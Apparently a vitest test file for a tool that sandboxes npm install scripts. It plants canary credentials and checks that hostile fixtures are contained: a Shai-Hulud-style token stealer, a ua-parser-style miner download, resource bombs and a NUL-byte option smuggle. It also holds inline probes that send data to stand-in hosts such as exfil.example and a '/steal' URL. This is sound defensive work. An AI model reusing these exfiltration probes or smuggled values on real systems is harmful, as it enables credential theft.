// Install-time isolation (`isolate-deps scripts` / `isolate-deps sandbox`): real packages, real sandboxes,
// asserted from outside: canaries, file snapshots, local servers that record every request.
import { spawn, spawnSync } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import { chownSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { setUpOrFail } from './support/setup.ts';
import AjvModule from 'ajv-draft-04';
import { parsePolicy, PolicyError } from '@isolate-deps/policy';
import { startRecordingServer, type RecordingServer } from './support/canary.ts';

const REPO = path.resolve(import.meta.dirname, '..');
const CLI = path.join(REPO, 'packages/isolate-deps/dist/cli.js');
const CANARY = `canary-${randomUUID()}`;
const created: string[] = [];

/** Why the sandbox cannot be tested here, or undefined: only a machine without namespaces skips. */
function namespacesUnavailable(): string | undefined {
  if (process.platform !== 'linux') return `Linux namespaces are not available on ${process.platform}`;
  const probe = spawnSync('unshare', ['--user', '--map-root-user', '--net', '--mount', '--pid', '--fork', 'true'], { encoding: 'utf8' });
  if (probe.status !== 0) return `this machine cannot create user/mount/PID/network namespaces (unshare: ${(probe.stderr || probe.error?.message || '').trim()})`;
  return undefined;
}
const unavailable = namespacesUnavailable();
if (unavailable) console.warn(`test/sandbox.test.ts skipped: ${unavailable}`);

interface Project {
  root: string;
  home: string;
  env: NodeJS.ProcessEnv;
}

/**
 * A project as `npm ci --ignore-scripts` leaves it: the fixtures copied into node_modules (placeholders
 * like __COLLECTOR_PORT__ filled in, as a real package hard-codes its host), secrets planted in the
 * project (.env, .npmrc, .git) and in a temporary HOME, and token variables in the environment.
 */
function makeProject(packages: Record<string, { from?: string; manifest?: Record<string, unknown>; replace?: Record<string, string> }>, policy?: unknown): Project {
  const root = mkdtempSync(path.join(os.tmpdir(), 'isolate-deps-scripts-'));
  const home = mkdtempSync(path.join(os.tmpdir(), 'isolate-deps-home-'));
  created.push(root, home);
  writeFileSync(path.join(root, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', private: true, dependencies: Object.fromEntries(Object.keys(packages).map((n) => [n, '*'])) }, null, 2));
  writeFileSync(path.join(root, '.env'), `API_KEY=${CANARY}\n`);
  writeFileSync(path.join(root, '.npmrc'), `//registry.npmjs.org/:_authToken=${CANARY}\n`);
  mkdirSync(path.join(root, '.git'));
  writeFileSync(path.join(root, '.git', 'config'), `[credential]\n\thelper = store ${CANARY}\n`);
  mkdirSync(path.join(root, 'src'));
  writeFileSync(path.join(root, 'src', 'index.js'), 'export const app = 1;\n');
  if (policy !== undefined) writeFileSync(path.join(root, 'isolate-deps.policy.json'), JSON.stringify(policy, null, 2));
  for (const [name, spec] of Object.entries(packages)) {
    const dir = path.join(root, 'node_modules', name);
    if (spec.from) cpSync(spec.from, dir, { recursive: true });
    else mkdirSync(dir, { recursive: true });
    if (spec.manifest) writeFileSync(path.join(dir, 'package.json'), JSON.stringify(spec.manifest, null, 2));
    for (const file of readdirSync(dir)) {
      if (!file.endsWith('.js')) continue;
      let text = readFileSync(path.join(dir, file), 'utf8');
      for (const [from, to] of Object.entries(spec.replace ?? {})) text = text.replaceAll(from, to);
      writeFileSync(path.join(dir, file), text);
    }
  }
  writeFileSync(path.join(home, '.npmrc'), `//registry.npmjs.org/:_authToken=${CANARY}\n`);
  mkdirSync(path.join(home, '.ssh'));
  writeFileSync(path.join(home, '.ssh', 'id_rsa'), `-----BEGIN OPENSSH PRIVATE KEY-----\n${CANARY}\n`);
  mkdirSync(path.join(home, '.aws'));
  writeFileSync(path.join(home, '.aws', 'credentials'), `[default]\naws_secret_access_key = ${CANARY}\n`);
  writeFileSync(path.join(home, '.bashrc'), '# the user\'s own .bashrc\n');
  const env = { ...process.env, HOME: home, NPM_TOKEN: CANARY, GITHUB_TOKEN: CANARY, AWS_SECRET_ACCESS_KEY: CANARY, NO_COLOR: '1' };
  return { root, home, env };
}

/** Runs the built CLI without blocking this process (the local servers must answer meanwhile). */
function cli(args: string[], project: Project): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [CLI, ...args], { cwd: project.root, env: project.env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c) => (stdout += c));
    child.stderr.on('data', (c) => (stderr += c));
    child.once('error', reject);
    child.once('close', (status) => resolve({ status, stdout, stderr }));
  });
}

type Violation = { kind: string; target?: string; via?: string; path?: string; limit?: string; exitCode?: number | null };
type Report = {
  sandbox: string;
  limitsVia: string;
  scripts: { package: string; event: string; command: string; exitCode: number | null; violations: Violation[]; output: string }[];
  skipped: { package: string; event: string; reason: string }[];
};

/** Every file under dir (but `except`) with its content hash: a file outside the package that changed shows up. */
function snapshot(dir: string, except?: string): Map<string, string> {
  const files = new Map<string, string>();
  const walk = (d: string) => {
    for (const entry of readdirSync(d, { withFileTypes: true })) {
      const full = path.join(d, entry.name);
      if (full === except) continue;
      if (entry.isDirectory()) walk(full);
      else files.set(path.relative(dir, full), entry.isFile() ? createHash('sha256').update(readFileSync(full)).digest('hex') : 'other');
    }
  };
  walk(dir);
  return files;
}

/** Every file under dir whose content holds the canary. */
function filesWithCanary(dir: string): string[] {
  return [...snapshot(dir).keys()].filter((f) => {
    try {
      return readFileSync(path.join(dir, f), 'utf8').includes(CANARY);
    } catch {
      return false;
    }
  });
}

const fixture = (p: string) => path.join(REPO, p);

// The official SARIF 2.1.0 schema, as the audit's SARIF test uses it.
// CJS default export: Node's ESM interop and TypeScript's NodeNext view differ on where the class sits.
const Ajv = ((AjvModule as unknown as { default?: typeof AjvModule }).default ?? AjvModule) as unknown as typeof AjvModule.default;
const validateSarif = new Ajv({ allErrors: true, strict: false, unicodeRegExp: false }).compile(JSON.parse(readFileSync(path.join(REPO, 'test/fixtures/audit/sarif-schema-2.1.0.json'), 'utf8')));

/** The pids of processes whose command line contains `text` (read from /proc, as seen from outside any sandbox). */
function processesRunning(text: string): number[] {
  return readdirSync('/proc')
    .filter((d) => /^\d+$/.test(d))
    .filter((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').some((arg) => arg.includes(text));
      } catch {
        return false;
      }
    })
    .map(Number);
}

afterAll(() => {
  for (const dir of created) rmSync(dir, { recursive: true, force: true });
});

describe.skipIf(unavailable !== undefined)('install scripts in the sandbox: honest packages work', () => {
  let esbuildProject: Project;
  setUpOrFail(() => {
    // The real esbuild from the registry, installed as `npm ci --ignore-scripts` would.
    const version = JSON.parse(readFileSync(path.join(REPO, 'node_modules/esbuild/package.json'), 'utf8')).version as string;
    esbuildProject = makeProject({}, { packages: { esbuild: { allowScripts: ['postinstall'] } } });
    writeFileSync(path.join(esbuildProject.root, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', private: true }));
    const install = spawnSync('npm', ['install', '--ignore-scripts', '--no-audit', '--no-fund', `esbuild@${version}`], { cwd: esbuildProject.root, encoding: 'utf8', env: { ...process.env, HOME: os.homedir() } });
    expect(install.status, install.stderr).toBe(0);
  });

  it("runs esbuild's postinstall sandboxed, and esbuild works afterwards", async () => {
    const result = await cli(['scripts', '--format', 'json'], esbuildProject);
    expect(result.status, result.stderr + result.stdout).toBe(0);
    const report = JSON.parse(result.stdout) as Report;
    expect(report.sandbox).toBe('bubblewrap');
    expect(report.scripts.map((s) => [s.package.replace(/@[^@]*$/, ''), s.event, s.command, s.violations])).toEqual([['esbuild', 'postinstall', 'node install.js', []]]);
    const version = spawnSync(path.join(esbuildProject.root, 'node_modules/.bin/esbuild'), ['--version'], { encoding: 'utf8' });
    expect(version.status).toBe(0);
    const built = spawnSync(process.execPath, ['-e', "console.log(require('esbuild').transformSync('let x: number = 1', { loader: 'ts' }).code)"], { cwd: esbuildProject.root, encoding: 'utf8' });
    expect(built.stdout.trim()).toBe('let x = 1;');
  });

  it('builds a native addon from source with the implicit node-gyp rebuild (local headers, no download), and it loads', async () => {
    const project = makeProject({ 'sandbox-native-addon': { from: fixture('test/fixtures/scripts/native-addon') } }, { packages: { 'sandbox-native-addon': { allowScripts: ['install'] } } });
    const result = await cli(['scripts', '--format', 'json'], project);
    const report = JSON.parse(result.stdout) as Report;
    expect(result.status, report.scripts[0]?.output).toBe(0);
    expect(report.scripts.map((s) => [s.event, s.command, s.violations])).toEqual([['install', 'node-gyp rebuild', []]]);
    const loaded = spawnSync(process.execPath, ['-e', "console.log(require('sandbox-native-addon').add(2, 3))"], { cwd: project.root, encoding: 'utf8' });
    expect(loaded.stdout.trim(), loaded.stderr).toBe('5');
  });

  describe('network grants', () => {
    let asset: RecordingServer;
    let other: RecordingServer;
    setUpOrFail(async () => {
      asset = await startRecordingServer(() => ({ status: 200, headers: { 'content-type': 'application/octet-stream' }, body: 'the granted asset' }));
      other = await startRecordingServer();
    });
    afterAll(async () => {
      await asset.close();
      await other.close();
    });

    it('a script downloads from its granted host through the filtering proxy', async () => {
      const project = makeProject(
        { 'sandbox-granted-download': { from: fixture('test/fixtures/scripts/granted-download'), replace: { __ASSET_PORT__: String(asset.port) } } },
        { packages: { 'sandbox-granted-download': { allowScripts: { postinstall: { net: [`127.0.0.1:${asset.port}`] } } } } },
      );
      const result = await cli(['scripts', '--format', 'json'], project);
      const report = JSON.parse(result.stdout) as Report;
      expect(result.status, report.scripts[0]?.output).toBe(0);
      expect(readFileSync(path.join(project.root, 'node_modules/sandbox-granted-download/asset.bin'), 'utf8')).toBe('the granted asset');
      expect(asset.requests.map((r) => r.url)).toContain('/asset.bin');
    });

    it('the proxy refuses a host that is not granted, and records it', async () => {
      const project = makeProject({});
      const before = other.requests.length;
      const probe = `const http = require('http'); const p = new URL(process.env.HTTP_PROXY);
        http.get({ host: p.hostname, port: p.port, path: 'http://127.0.0.1:${other.port}/steal?${CANARY}' }, (r) => { console.log('status', r.statusCode); r.resume(); })`;
      const result = await cli(['sandbox', '--net', `127.0.0.1:${asset.port}`, '--format', 'json', '--', 'node', '-e', probe], project);
      expect(result.status).toBe(1);
      expect(result.stdout).toContain('status 403');
      const report = JSON.parse(result.stdout.slice(result.stdout.indexOf('{'))) as { violations: Violation[] };
      expect(report.violations).toContainEqual(expect.objectContaining({ kind: 'net', via: 'proxy', target: `127.0.0.1:${other.port}` }));
      expect(other.requests.length).toBe(before);
    });
  });

  it('records each failed connection and DNS lookup of Node code without a grant: net, http, https, fetch', async () => {
    const project = makeProject({});
    const probe = `const done = () => {};
      require('net').connect(4567, '127.0.0.1').on('error', done);
      require('http').get('http://exfil.example/').on('error', done);
      require('https').get('https://203.0.113.7/').on('error', done);
      fetch('https://api.exfil.example/').catch(done);
      fetch('http://198.51.100.9:8080/').catch(done);`;
    const result = await cli(['sandbox', '--format', 'json', '--', 'node', '-e', probe], project);
    expect(result.status).toBe(1);
    const report = JSON.parse(result.stdout.slice(result.stdout.indexOf('{'))) as { violations: Violation[] };
    const targets = report.violations.filter((v) => v.kind === 'net').map((v) => `${v.via} ${v.target}`);
    expect(new Set(targets)).toEqual(new Set(['node 127.0.0.1:4567', 'dns exfil.example', 'node 203.0.113.7:443', 'dns api.exfil.example', 'node 198.51.100.9:8080']));
  });

  it('runs scripts in dependency order, and lists the scripts the policy does not allow as skipped', async () => {
    const script = (name: string) => `node -e "require('fs').writeFileSync('ran', '${name}')"`;
    const project = makeProject(
      {
        'a-dependent': { manifest: { name: 'a-dependent', version: '1.0.0', dependencies: { 'z-dependency': '1.0.0' }, scripts: { postinstall: script('a') } } },
        'z-dependency': { manifest: { name: 'z-dependency', version: '1.0.0', scripts: { install: script('z'), postinstall: script('z') } } },
        'not-allowed': { manifest: { name: 'not-allowed', version: '1.0.0', scripts: { postinstall: 'touch pwned' } } },
      },
      { packages: { 'a-dependent': { allowScripts: true }, 'z-dependency': { allowScripts: ['install', 'postinstall'] } } },
    );
    const result = await cli(['scripts', '--format', 'json'], project);
    expect(result.status, result.stderr).toBe(0);
    const report = JSON.parse(result.stdout) as Report;
    expect(report.scripts.map((s) => `${s.package} ${s.event}`)).toEqual(['z-dependency@1.0.0 install', 'z-dependency@1.0.0 postinstall', 'a-dependent@1.0.0 postinstall']);
    expect(report.skipped).toEqual([expect.objectContaining({ package: 'not-allowed@1.0.0', event: 'postinstall' })]);
    expect(existsSync(path.join(project.root, 'node_modules/not-allowed/pwned'))).toBe(false);
    expect(readFileSync(path.join(project.root, 'node_modules/a-dependent/ran'), 'utf8')).toBe('a');
  });
});

describe.skipIf(unavailable !== undefined)('install scripts in the sandbox: hostile packages are contained and reported', () => {
  let collector: RecordingServer;
  setUpOrFail(async () => {
    collector = await startRecordingServer((req) => ({ status: 200, headers: { 'content-type': 'text/plain' }, body: req.url === '/jsextension' ? `#!/bin/sh\ntouch "$HOME/MINER_RAN" "\${INIT_CWD:-/tmp}/MINER_RAN"\n` : 'ok' }));
  });
  afterAll(() => collector.close());

  const shaiHulud = () =>
    makeProject(
      { 'install-shai-hulud': { from: fixture('test/attacks/install-time/shai-hulud-postinstall'), replace: { __COLLECTOR_PORT__: String(collector.port) } } },
      { packages: { 'install-shai-hulud': { allowScripts: ['postinstall'] } } },
    );

  it('Shai-Hulud-style postinstall: no token read, nothing sent, no workflow or .bashrc planted; each attempt reported', async () => {
    const project = shaiHulud();
    const pkgDir = path.join(project.root, 'node_modules/install-shai-hulud');
    const before = { root: snapshot(project.root, pkgDir), home: snapshot(project.home) };
    const requestsBefore = collector.requests.length;
    const result = await cli(['scripts', '--format', 'json'], project);
    expect(result.status).toBe(1);
    const report = JSON.parse(result.stdout) as Report;
    const violations = report.scripts[0]!.violations;
    expect(violations).toContainEqual(expect.objectContaining({ kind: 'net', via: 'node', target: `127.0.0.1:${collector.port}` }));
    expect(violations).toContainEqual(expect.objectContaining({ kind: 'write', path: path.join(project.root, '.github/workflows/x.yml') }));
    expect(violations).toContainEqual(expect.objectContaining({ kind: 'write', path: path.join(project.home, '.bashrc') }));
    // From outside: nothing reached the collector, no file outside the package changed, no canary anywhere.
    expect(collector.requests.length).toBe(requestsBefore);
    expect(snapshot(project.root, pkgDir)).toEqual(before.root);
    expect(snapshot(project.home)).toEqual(before.home);
    expect(existsSync(path.join(project.root, '.github'))).toBe(false);
    expect(result.stdout + result.stderr).not.toContain(CANARY);
    expect(filesWithCanary(pkgDir)).toEqual([]);
    // The same report as SARIF for code scanning.
    const sarif = await cli(['scripts', '--format', 'sarif'], project);
    const log = JSON.parse(sarif.stdout) as { runs: { results: { ruleId: string }[] }[] };
    expect(validateSarif(log), JSON.stringify(validateSarif.errors)).toBe(true);
    const ruleIds = log.runs[0]!.results.map((r) => r.ruleId);
    expect(new Set(ruleIds)).toEqual(new Set(['install-script-network', 'install-script-write-outside']));
    // And for people.
    const text = await cli(['scripts'], project);
    expect(text.stdout).toContain('FAIL install-shai-hulud@1.0.0 postinstall');
    expect(text.stdout).toContain(`write outside the package folder: ${path.join(project.home, '.bashrc')}`);
    expect(text.stdout).toMatch(/1 script ran \(0 clean, 1 failed or violated\)/);
  });

  it('the same postinstall run --unsandboxed does steal the canary (the fixture is a real attack)', async () => {
    const project = shaiHulud();
    const requestsBefore = collector.requests.length;
    const result = await cli(['scripts', '--unsandboxed', '--format', 'json'], project);
    expect(result.stderr).toContain('WITHOUT a sandbox');
    await new Promise((r) => setTimeout(r, 200));
    const sent = collector.requests.slice(requestsBefore).map((r) => r.body).join('\n');
    expect(sent).toContain(CANARY);
    expect(existsSync(path.join(project.root, '.github/workflows/x.yml'))).toBe(true);
    expect(readFileSync(path.join(project.home, '.bashrc'), 'utf8')).toContain('curl');
  });

  it('ua-parser-js-style preinstall: the payload is never downloaded nor run; the attempt is reported', async () => {
    const project = makeProject(
      { 'install-ua-parser': { from: fixture('test/attacks/install-time/ua-parser-preinstall'), replace: { __PAYLOAD_PORT__: String(collector.port) } } },
      { packages: { 'install-ua-parser': { allowScripts: ['preinstall'] } } },
    );
    const requestsBefore = collector.requests.length;
    const result = await cli(['scripts', '--format', 'json'], project);
    expect(result.status).toBe(1);
    const report = JSON.parse(result.stdout) as Report;
    expect(report.scripts[0]!.violations).toContainEqual(expect.objectContaining({ kind: 'net', target: `127.0.0.1:${collector.port}` }));
    await new Promise((r) => setTimeout(r, 200));
    expect(collector.requests.length).toBe(requestsBefore);
    expect(existsSync(path.join(project.home, 'MINER_RAN'))).toBe(false);
    expect(existsSync(path.join(project.root, 'MINER_RAN'))).toBe(false);
  });

  it('a NUL byte in package.json cannot smuggle options into bubblewrap', async () => {
    // bubblewrap reads its options NUL-separated: a version "1.0.0\0--setenv\0INJECTED\0yes" would add an option.
    const project = makeProject(
      { 'install-nul': { manifest: { name: 'install-nul', version: '1.0.0\u0000--setenv\u0000INJECTED\u0000yes', scripts: { postinstall: '[ -z "$INJECTED" ] || touch injected' } } } },
      { packages: { 'install-nul': { allowScripts: ['postinstall'] } } },
    );
    const result = await cli(['scripts', '--format', 'json'], project);
    expect(result.status, result.stderr).toBe(0);
    expect(existsSync(path.join(project.root, 'node_modules/install-nul/injected'))).toBe(false);
  });

  /** Runs a resource bomb and checks, from outside, that this process stayed responsive and nothing survived. */
  async function bomb(fixtureName: string, limits: Record<string, number>): Promise<Violation[]> {
    const name = `install-${fixtureName}`;
    const project = makeProject({ [name]: { from: fixture(`test/attacks/install-time/${fixtureName}`) } }, { packages: { [name]: { allowScripts: { postinstall: { limits } } } } });
    let ticks = 0;
    const ticker = setInterval(() => ticks++, 50);
    const result = await cli(['scripts', '--format', 'json'], project);
    clearInterval(ticker);
    expect(result.status).toBe(1);
    // The host kept running its own event loop during the run, and can still start processes.
    expect(ticks).toBeGreaterThan(0);
    expect(spawnSync(process.execPath, ['-e', 'process.exit(7)']).status).toBe(7);
    // No process of the sandbox outlives it: none runs the script's command line.
    const command = (JSON.parse(readFileSync(path.join(project.root, 'node_modules', name, 'package.json'), 'utf8')) as { scripts: { postinstall: string } }).scripts.postinstall;
    expect(processesRunning(command)).toEqual([]);
    const report = JSON.parse(result.stdout) as Report;
    return report.scripts[0]!.violations;
  }

  it('a fork bomb hits the process limit and is killed whole', async () => {
    const violations = await bomb('fork-bomb', { pids: 64, timeoutMs: 5000 });
    expect(violations).toContainEqual(expect.objectContaining({ kind: 'limit', limit: 'pids' }));
    // It ends at the wall clock, or earlier when its own shell fails to fork and exits (the PID namespace then dies with it).
    expect(violations.some((v) => (v.kind === 'limit' && v.limit === 'timeout') || v.kind === 'exit')).toBe(true);
  });

  it('a memory bomb hits the memory ceiling', async () => {
    const violations = await bomb('memory-bomb', { memoryMb: 256 });
    expect(violations).toContainEqual(expect.objectContaining({ kind: 'limit', limit: 'memory' }));
    expect(violations).toContainEqual(expect.objectContaining({ kind: 'exit' }));
  });

  it('an infinite loop is killed at the wall-clock limit', async () => {
    const violations = await bomb('infinite-loop', { timeoutMs: 3000 });
    expect(violations).toContainEqual(expect.objectContaining({ kind: 'limit', limit: 'timeout' }));
  });
});

describe.skipIf(unavailable !== undefined)('the sandbox for an unprivileged user', () => {
  it('uses a user namespace, says that its limits fell back to rlimits, and still contains Shai-Hulud', async () => {
    const collector = await startRecordingServer();
    try {
      const project = makeProject(
        { 'install-shai-hulud': { from: fixture('test/attacks/install-time/shai-hulud-postinstall'), replace: { __COLLECTOR_PORT__: String(collector.port) } } },
        { packages: { 'install-shai-hulud': { allowScripts: ['postinstall'] } } },
      );
      // As root here, the CLI runs as nobody (as a developer or CI user would run it); otherwise as ourselves.
      const uid = process.getuid!() === 0 ? 65534 : process.getuid!();
      const gid = process.getuid!() === 0 ? 65534 : process.getgid!();
      for (const dir of [project.root, project.home]) for (const f of ['', ...readdirSync(dir, { recursive: true }).map(String)]) chownSync(path.join(dir, f), uid, gid);
      const result = await new Promise<{ status: number | null; stdout: string }>((resolve) => {
        const child = spawn(process.execPath, [CLI, 'scripts', '--format', 'json'], { cwd: project.root, env: project.env, uid, gid, stdio: ['ignore', 'pipe', 'inherit'] });
        let stdout = '';
        child.stdout.on('data', (c) => (stdout += c));
        child.once('close', (status) => resolve({ status, stdout }));
      });
      expect(result.status, result.stdout).toBe(1);
      const report = JSON.parse(result.stdout) as Report & { limitsNote?: string };
      // Whichever way the limits went, the report says it; rlimits only come with the reason why.
      expect(['cgroup-v1', 'cgroup-v2', 'rlimit']).toContain(report.limitsVia);
      expect(report.limitsNote === undefined ? undefined : report.limitsNote.startsWith('no writable cgroup')).toBe(report.limitsVia === 'rlimit' ? true : undefined);
      expect(report.scripts[0]!.violations).toContainEqual(expect.objectContaining({ kind: 'write', path: path.join(project.home, '.bashrc') }));
      expect(report.scripts[0]!.violations).toContainEqual(expect.objectContaining({ kind: 'net', target: `127.0.0.1:${collector.port}` }));
      expect(collector.requests).toEqual([]);
      expect(result.stdout).not.toContain(CANARY);
    } finally {
      await collector.close();
    }
  });
});

describe('the policy: allowScripts', () => {
  const parse = (allowScripts: unknown) => parsePolicy(JSON.stringify({ packages: { pkg: { allowScripts } } }), '/p/isolate-deps.policy.json').packages[0]!;

  it('keeps the array and boolean forms, and reads per-script grants', () => {
    expect(parse(['postinstall']).allowScripts).toEqual(['postinstall']);
    expect(parse(true).allowScripts).toEqual(['preinstall', 'install', 'postinstall']);
    const entry = parse({ install: true, postinstall: { net: ['storage.googleapis.com:443'], env: ['PUPPETEER_CACHE_DIR'], limits: { memoryMb: 8192 } } });
    expect(entry.allowScripts).toEqual(['install', 'postinstall']);
    expect(entry.scriptGrants).toEqual({
      install: { net: [], env: [], limits: {} },
      postinstall: { net: ['storage.googleapis.com:443'], env: ['PUPPETEER_CACHE_DIR'], limits: { memoryMb: 8192 } },
    });
  });

  it('rejects an unknown script name, a malformed host and an unknown grant key, naming where', () => {
    for (const bad of [{ prepare: true }, { postinstall: { net: ['http://evil.example/'] } }, { postinstall: { fs: ['/'] } }]) {
      expect(() => parse(bad)).toThrow(PolicyError);
      expect(() => parse(bad)).toThrow(/allowScripts/);
    }
  });
});

describe('isolate-deps scripts: usage', () => {
  it('exits 2 and says what to do when bubblewrap is missing', async () => {
    const project = makeProject({ pkg: { manifest: { name: 'pkg', version: '1.0.0', scripts: { postinstall: 'true' } } } }, { packages: { pkg: { allowScripts: true } } });
    const result = await cli(['scripts'], { ...project, env: { ...project.env, ISOLATE_DEPS_BWRAP: path.join(project.root, 'no-bwrap') } });
    expect(result.status).toBe(2);
    expect(result.stderr).toMatch(/bubblewrap \(bwrap\) is not installed[\s\S]*apt-get install bubblewrap/);
  });

  it('rejects an unknown format and a sandbox command without a command with exit code 2', async () => {
    const project = makeProject({});
    expect((await cli(['scripts', '--format', 'xml'], project)).status).toBe(2);
    const noCommand = await cli(['sandbox'], project);
    expect(noCommand.status).toBe(2);
    expect(noCommand.stderr).toContain('no command');
  });
});
